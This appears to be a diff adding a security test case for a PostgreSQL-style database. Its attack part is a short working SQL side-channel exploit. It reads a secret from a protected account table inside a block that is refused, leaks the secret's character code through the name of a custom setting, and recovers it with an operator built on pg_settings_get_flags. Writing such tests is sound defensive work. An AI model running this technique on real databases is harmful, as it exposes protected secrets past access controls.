@@ -1,0 +1,12 @@
+-- Makes up a parameter by a letter in a block that is refused, and asks for it by an operator.
+-- wants: read
+-- shows: letter-116
+-- setup:
+CREATE OPERATOR ?! (FUNCTION = pg_settings_get_flags, RIGHTARG = text);
+-- attack:
+DO $$ DECLARE value text; BEGIN
+  EXECUTE 'SELECT secret FROM vlt_' || 'account WHERE id = 1' INTO value;
+  PERFORM set_config('x.y1_' || ascii(value), '', true);
+END $$;
+-- repeat: 112..118
+SELECT 'letter' || '-{n}' WHERE (?! 'x.y1_{n}') IS NOT NULL;
